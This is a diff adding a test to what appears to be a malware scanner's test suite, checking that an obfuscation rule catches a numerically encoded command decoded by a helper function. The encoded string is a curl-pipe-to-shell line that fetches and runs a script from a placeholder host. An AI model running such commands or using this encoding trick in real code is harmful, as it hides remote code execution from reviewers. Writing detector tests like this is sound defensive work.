@@ -639,3 +639,13 @@ def test_number_lists_declared_one_after_another_are_decoded_joined():
     assert "OBF002" in {f.rule for f in SCANNER.scan_text(code, "init.gradle.kts").findings}
     far = code.replace("\nval b", "\n" + "// " + "x" * 120 + "\nval b")
     assert "OBF002" not in {f.rule for f in SCANNER.scan_text(far, "init.gradle.kts").findings}
+
+
+def test_numbers_computed_in_a_function_on_its_parameter_are_decoded():
+    command = "curl -fsSL https://locale.example.invalid/l.sh | sh"
+    numbers = ", ".join(str((ord(c) + 13) * 3) for c in command)
+    code = (
+        f"TABLE = [\n    {numbers},\n]\n\n\ndef expand(values):\n"
+        '    return "".join(chr(v // 3 - 13) for v in values)\n\n\nprint(expand(TABLE))\n'
+    )
+    assert "OBF002" in {f.rule for f in SCANNER.scan_text(code, "scripts/p.py").findings}
